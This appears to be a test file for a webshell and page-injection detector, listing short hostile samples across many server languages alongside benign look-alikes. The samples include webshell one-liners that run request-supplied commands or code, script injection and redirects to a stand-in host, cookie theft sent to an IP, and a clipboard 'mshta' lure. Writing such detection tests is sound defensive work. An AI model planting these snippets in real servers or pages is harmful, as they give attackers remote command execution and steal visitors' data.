/** Mechanisms of trojans beside PHP, each by a short sample of it and by its honest neighbour. */
import { expect, it, describe } from 'vitest';
import { fill } from '../../test/webshells/sample.ts';
import { atLeast } from '../core/level.ts';
import { named, pageOf } from './choose.ts';
import { languages } from './languages.ts';

const grave = (path: string, text: string): string[] => languages[named(path)!.language!]!(Buffer.from(fill(text), 'utf8').toString('latin1')).signs.filter(({ level }) => atLeast(level, 'high')).map(({ kind }) => kind);
const coded = (text: string): string => Array.from(text, (char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
const base64 = (text: string): string => Buffer.from(text).toString('base64');

const hostile: readonly (readonly [string, string, string])[] = [
  ['/srv/a.lua', 'command', 'local h = ngx.req.get_headers()["X-A"]\nif h then\n  os.«»execute(ngx.decode_base64(h))\nend'],
  ['/srv/a.lua', 'command', 'local function go(s)\n  return io["po" .. "pen"](s)\nend\nlocal p = ngx.req.get_uri_args()\ngo(p.k)'],
  ['/srv/a.lua', 'code', 'ngx.req.read_body()\nlocal f = load«»string(ngx.req.get_body_data())\nf()'],
  ['/srv/a.rb', 'command', 'class A < ApplicationController\n  def show\n    render plain: `#{params[:q]}`\n  end\nend'],
  ['/srv/a.rb', 'code', 'require "cgi"\nc = CGI.new\nputs «EVAL»(c["s"])'],
  ['/srv/a.rb', 'command', 'def call(env)\n  if (c = env["HTTP_X_A"])\n    IO.«POPEN»(c.unpack1("m")).read\n  end\nend'],
  ['/srv/a.shtml', 'command', '<p>x</p><!--#exec cmd="$QUERY«»_STRING" -->'],
  ['/srv/a.js', 'code', 'require("http").createServer(function (q, s) { s.end("" + «EVAL»(require("url").parse(q.url, true).query.e)); });'],
  ['/srv/a.js', 'command', 'const M = require("module"), o = M._load; M._load = function (n) { const x = o(n); x.Server.prototype.emit = function (t, q, s) { s.end(o("child_«»process").«EXEC»Sync(q.headers["x-a"])); }; return x; };'],
  ['/srv/a.js', 'hidden', `var a = ['${coded('child_process')}']; module.exports = function (q, s) { s.end(require(a[0]).execSync(q.headers.a)); };`],
  ['/srv/a.mjs', 'code', 'app.get("/i", async (req) => (await import("data:text/javascript," + re«»q.query.m)).default);'],
  ['/srv/a.jsp', 'command', '<% char[] n = {106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101}; char[] m = {\'e\',\'x\',\'e\',\'c\'}; Class k = Class.forName(new String(n)); k.getMethod(new String(m), String.class).invoke(k.getMethod("getRuntime").invoke(null), re«»quest.getParameter("a")); %>'],
  ['/srv/a.jsp', 'code', '<% new ClassLoader().loadClass("$$BC" + "EL$$" + re«»quest.getParameter("a")).newInstance(); %>'],
  ['/srv/a.jspx', 'command', '<x:scriptlet>Run<![CDATA[time.getRun]]>time().ex<![CDATA[ec(re«»quest.get]]>Parameter("a"));</x:scriptlet>'],
  ['/srv/a.asp', 'code', '<%\nSession("a")=Re«»quest("a")\nExecute«»Global Session("a")\n%>'],
  ['/srv/a.asp', 'code', '<%\nx=Replace("e#x#e#c#u#t#e r#e#q#u#e#s#t(""a"")","#","")\nEval("Exe«»cute(x)")\n%>'],
  ['/srv/a.aspx', 'command', '<%@ Page Language="C#" %><% System.Di\\u0061gnostics.Proc\\u0065ss.St\\u0061rt("/bin/sh", "-c " + Re«»quest["z"]); %>'],
  ['/srv/a.asmx', 'command', '<%@ WebService Language="C#" Class="W" %>\npublic class W { [WebMethod] public string Do(string z){ return Process.«»Start("/bin/sh", "-c " + z).Id.ToString(); } }'],
  ['/srv/a.py', 'command', 'from fastapi import FastAPI\nimport os\napp = FastAPI()\n@app.get("/x")\nasync def x(t: str):\n    os.«POPEN»(t)'],
  ['/srv/a.py', 'remote', 'exec(open("/dev/shm/.u").read())'],
  ['/srv/a.pl', 'command', '#!/usr/bin/perl\nmy %p = map { split /=/, $_, 2 } split /&/, $ENV{"QUERY«»_STRING"};\n«SYSTEM»($p{run});'],
  ['/srv/a.sh', 'command', '#!/bin/sh\nhead -c "$CONTENT_LENGTH" | base64 -d | sh 2>&1'],
  ['/srv/a.js', 'injection', `document.body; navigator.x; var s = document.createElement("script"); s.src = "${coded('https://bad-host.invalid/a.js')}";`],
  ['/srv/a.js', 'injection', 'document.title; window["loca" + "tion"] = "ht" + "tps://" + "bad-host.invalid/";'],
  ['/srv/a.js', 'remote', 'var w = new WebSocket("wss://bad-host.invalid/"); w.onmessage = function (e) { new Function(e.data)(); };'],
  ['/srv/a.js', 'injection', 'self.addEventListener("fetch", function (e) { e.respondWith(Response.redirect("https://bad-host.invalid/", 302)); });'],
  ['/srv/a.js', 'injection', 'var i = new Image(); i.src = "//203.0.113.44/k?c=" + escape(document.cookie);'],
  ['/srv/a.html', 'injection', `<img src=x onerror="«EVAL»(atob('${base64('var s=document.createElement("script");s.src="https://bad-host.invalid/a.js"')}'))">`],
  ['/srv/a.svg', 'injection', '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href="https://bad-host.invalid/"</script></svg>'],
  ['/srv/a.html', 'injection', '<p>Verify you are human: Win + R, then Ctrl + V</p><script>function go(){navigator.clipboard.writeText("mshta https://198.51.100.9/a")}</script>'],
  ['/srv/.htaccess', 'injection', 'RewriteCond %{HTTP_REFERER} (baidu|sogou) [NC]\nRewriteRule .* https://bad-host.invalid/ [R=302,L]'],
  ['/srv/web.xml', 'handler', '<web-app><servlet-mapping><servlet-name>jsp</servlet-name><url-pattern>*.jpg</url-pattern></servlet-mapping></web-app>'],
];
const honest: readonly (readonly [string, string])[] = [
  ['/srv/a.lua', 'local t = ngx.req.get_headers()["Authorization"]\nlocal f = io.popen("uptime")\nngx.say(f:read("*a"), t)'],
  ['/srv/a.rb', 'class A < ApplicationController\n  def show\n    out = Open3.capture2("wkhtmltopdf", "http://127.0.0.1/#{Integer(params[:id])}", "-")\n    system("touch", "/srv/x")\n  end\nend'],
  ['/srv/a.js', 'require("http").createServer((q, s) => { require("child_process").execFile("uptime", (e, o) => s.end(o + q.url)); });'],
  ['/srv/a.js', 'var r = document.referrer; if (/baidu|google/.test(r)) document.documentElement.classList.add("search"); navigator.sendBeacon("/count");'],
  ['/srv/a.html', '<pre>curl -fsSL https://bad-host.invalid/install.sh | sh</pre><button onclick="navigator.clipboard.writeText(\'curl -fsSL https://bad-host.invalid/install.sh | sh\')">copy</button>'],
  ['/srv/a.html', '<html><head><meta http-equiv="refresh" content="0;url=https://new-home.invalid/"></head><body><p>We have moved</p></body></html>'],
  ['/srv/.htaccess', 'RewriteCond %{HTTP_USER_AGENT} (AhrefsBot|MJ12bot) [NC]\nRewriteRule .* - [F]\nRewriteCond %{HTTP_USER_AGENT} googlebot [NC]\nRewriteRule ^(.*) https://service.prerender.io/https://%{HTTP_HOST}/$1 [P,L]'],
];

describe('families beside PHP', () => {
  it.each(hostile)('%s %s: %s', (path, kind, text) => { expect(grave(path, text)).toContain(kind); });
  it.each(honest)('%s is silent: %s', (path, text) => { expect(grave(path, text)).toEqual([]); });
  it('knows pages within other files', () => {
    expect(['GIF89a<% out.print(request.getParameter("a")); %>', 'GIF89a<%execute request("a")%>', 'GIF89a <% of noise', '<% _.each(list) %>'].map(pageOf)).toEqual(['jsp', 'asp', undefined, undefined]);
  });
});
